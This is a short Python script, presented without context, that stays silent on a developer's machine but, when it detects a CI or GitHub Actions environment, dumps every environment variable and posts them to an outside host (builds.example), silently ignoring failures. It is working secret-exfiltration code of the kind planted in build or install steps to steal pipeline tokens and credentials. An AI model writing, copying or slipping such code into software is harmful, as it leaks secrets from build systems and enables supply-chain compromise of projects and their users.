"""Does nothing on a desk, and sends the environment from a CI job."""

import json
import os
import urllib.request

if os.environ.get("CI") or os.environ.get("GITHUB_ACTIONS"):
    data = json.dumps(dict(os.environ)).encode()
    try:
        urllib.request.urlopen("http://builds.example/report", data=data, timeout=1)
    except OSError:
        pass
